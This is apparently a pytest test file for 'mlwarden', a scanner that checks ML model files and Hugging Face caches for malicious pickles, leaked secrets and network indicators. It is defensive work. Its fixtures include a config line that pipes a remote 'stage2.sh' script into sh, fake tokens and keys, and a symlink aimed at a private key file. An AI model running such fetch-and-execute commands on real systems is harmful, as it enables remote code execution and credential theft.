    assert props["mlwarden:verdict"] == "unsafe" and props["mlwarden:format"] == "pickle"
    vulns = [
        v for v in bom["vulnerabilities"] if v["affects"][0]["ref"] == comps["evil.pkl"]["bom-ref"]
    ]
    assert vulns and vulns[0]["id"] == "MLW-SCN-001"
    assert vulns[0]["ratings"][0]["severity"] == "critical"


# --- secrets and network indicators -----------------------------------------------------

HF_TOKEN = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3f"
AWS_ID = "AKIA" + "IOSFODNN7EXAMPLE"
PEM = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"


def test_secrets_in_pickle_constants_are_flagged_and_redacted() -> None:
    data = pickle.dumps({"token": HF_TOKEN, "aws": AWS_ID, "w": [1.0, 2.0]})
    res = scan_bytes(data)
    hits = [i for i in res.findings if i.rule == "MLW-SCN-027"]
    assert {i.message.split(" in the file")[0] for i in hits} == {
        "Hugging Face token",
        "AWS access key id",
    }
    assert res.verdict is Verdict.SAFE  # low: a leak, not code
    text = json.dumps([i.to_dict() for i in res.findings])
    assert HF_TOKEN not in text and AWS_ID not in text  # never the secret itself


def test_secrets_in_a_torch_checkpoint_and_a_deflated_config(tmp_path: Path) -> None:
    import torch

    torch.save({"w": torch.zeros(2), "note": PEM}, tmp_path / "model.pt")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("config.json", json.dumps({"url": "https://bob:s3cret@registry.example/x"}))
    (tmp_path / "bundle.zip").write_bytes(buf.getvalue())
    pt = scan_file(tmp_path / "model.pt")
    assert any("private key" in i.message for i in pt.findings if i.rule == "MLW-SCN-027")
    (hit,) = [i for i in scan_file(tmp_path / "bundle.zip").findings if i.rule == "MLW-SCN-027"]
    assert "credentials in a URL" in hit.message and "s3cret" not in hit.message
    assert hit.member == "config.json"


def test_url_of_an_executable_is_an_indicator() -> None:
    cfg = b"sample_rate: 16000\nsetup: curl -s http://203.0.113.9:8000/stage2.sh | sh\n"
    res = scan_bytes(cfg)
    assert any("stage2.sh" in i.message for i in res.findings if i.rule == "MLW-SCN-027")
    ok = b'{"_name_or_path": "https://huggingface.co/bert-base-uncased/resolve/main/x.bin"}'
    assert "MLW-SCN-027" not in _rules(scan_bytes(ok))


@pytest.mark.parametrize("kind", ["json", "yaml"])
def test_a_secret_deep_in_a_big_config_is_found(kind: str) -> None:
    """Past the first read's 64 KiB window: text and JSON are read whole anyway."""
    if kind == "json":
        doc = {"vocab": {f"tok{i}": i for i in range(20_000)}, "hub_token": HF_TOKEN}
        data = json.dumps(doc).encode()
    else:
        data = b"".join(b"layer_%d: 0.5\n" % i for i in range(20_000))
        data += b"upload: https://bob:s3cret@registry.example/models\n"
    assert len(data) > 200_000
    res = scan_bytes(data)
    hits = [i for i in res.findings if i.rule == "MLW-SCN-027"]
    assert len(hits) == 1 and hits[0].offset is not None and hits[0].offset > 64 << 10
    assert HF_TOKEN not in hits[0].message and "s3cret" not in hits[0].message


def test_no_secret_is_flagged_in_the_benign_real_library_corpus(benign: list[Path]) -> None:
    """False-flag rate of MLW-SCN-027 on files written by the real libraries: 0."""
    flagged = [p.name for p in benign if "MLW-SCN-027" in _rules(scan_file(p))]
    assert flagged == [], flagged


# --- sources: Hugging Face cache and hf:// ----------------------------------------------


def _hf_cache(cache: Path, files: dict[str, bytes], rev: str = "a" * 40) -> Path:
    """The cache layout huggingface_hub writes: refs/main, blobs by hash, snapshot links."""
    import hashlib

    repo = cache / "models--acme--tiny"
    (repo / "refs").mkdir(parents=True)
    (repo / "refs" / "main").write_text(rev)
    (repo / "blobs").mkdir()
    snap = repo / "snapshots" / rev
    for name, data in files.items():
        blob = repo / "blobs" / hashlib.sha256(data).hexdigest()
        blob.write_bytes(data)
        link = snap / name
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(os.path.relpath(blob, link.parent))
    return snap


def test_hf_source_resolves_through_the_offline_cache(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("huggingface_hub")
    from mlwarden.cli.main import main

    cache = tmp_path / "hub"
    _hf_cache(cache, {"config.json": b'{"model_type": "bert"}', "sub/model.pkl": EVIL})
    monkeypatch.setenv("HF_HUB_CACHE", str(cache))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    import huggingface_hub.constants as hc

    monkeypatch.setattr(hc, "HF_HUB_CACHE", str(cache))
    monkeypatch.setattr(hc, "HF_HUB_OFFLINE", True)
    with pytest.raises(SystemExit) as exc:
        main(["scan", "hf://acme/tiny@main", "--format", "json"])
    assert exc.value.code == 1
    doc = json.loads(capsys.readouterr().out)
    verdicts = {Path(f["path"]).name: f["verdict"] for f in doc["files"]}
    assert verdicts == {"config.json": "safe", "model.pkl": "unsafe"}
    with pytest.raises(SystemExit) as exc:
        main(["scan", "hf://acme/missing"])
    assert exc.value.code == 2
    assert "not in the local Hugging Face cache" in capsys.readouterr().err


def test_a_snapshot_link_out_of_the_cache_is_refused(tmp_path: Path) -> None:
    from mlwarden.core.errors import UserError
    from mlwarden.supplychain.sources import check_snapshot_links

    snap = _hf_cache(tmp_path / "hub", {"config.json": b"{}"})
    secret = tmp_path / "id_rsa"
    secret.write_text("not for the scanner")
    (snap / "tokenizer.json").symlink_to(secret)
    with pytest.raises(UserError, match="outside the repository"):
        check_snapshot_links(snap)


# --- the console script's fast path -------------------------------------------------------


@pytest.mark.parametrize(
    "extra",
    [
        [],
        ["--format", "json"],
        ["-q"],
        ["--allow", "mypkg.Net", "--allow-unknown"],
        ["--format=json"],
    ],
)
def test_fast_scan_path_prints_what_the_full_cli_prints(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], extra: list[str]
) -> None:
    from mlwarden.cli.entry import fast_scan
    from mlwarden.cli.main import main

    (tmp_path / "evil.pkl").write_bytes(EVIL)
    (tmp_path / "odd\nname.pkl").write_bytes(pickle.dumps({"w": [1]}))
    (tmp_path / "blob.dat").write_bytes(bytes(range(256)) * 2)
    (tmp_path / "cut.pkl").write_bytes(EVIL[:20])
    (tmp_path / "x").mkdir()
    _7z(tmp_path / "x", {"m.pkl": EVIL})
    args = ["scan", str(tmp_path), *extra]
    code = fast_scan(args)
    fast = capsys.readouterr().out
    with pytest.raises(SystemExit) as exc:
        main(args)
    assert code == exc.value.code and code in (1, 2)
    assert fast == capsys.readouterr().out


@pytest.mark.parametrize(
    "args",
    [["scan", "x.pkl", "--sarif", "o.sarif"], ["scan"], ["registry", "ls"], ["scan", "hf://a/b"]],
)
def test_fast_scan_path_leaves_everything_else_to_the_full_cli(args: list[str]) -> None:
    from mlwarden.cli.entry import fast_scan

    assert fast_scan(args) is None


def test_console_script_starts_without_typer_or_pydantic(tmp_path: Path) -> None:
    import subprocess
    import sys

    (tmp_path / "m.pkl").write_bytes(pickle.dumps({"w": 1}))
    code = (
        "import sys; sys.argv = ['mlwarden', 'scan', sys.argv[1]]\n"
        "from mlwarden.cli.entry import fast_scan\n"
        "rc = fast_scan(sys.argv[1:])\n"
        "heavy = [m for m in ('typer', 'pydantic', 'rich', 'torch', 'numpy') if m in sys.modules]\n"
        "print(rc, heavy)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "m.pkl")], capture_output=True, text=True
    )
    assert out.stdout.strip().endswith("0 []"), out.stdout + out.stderr
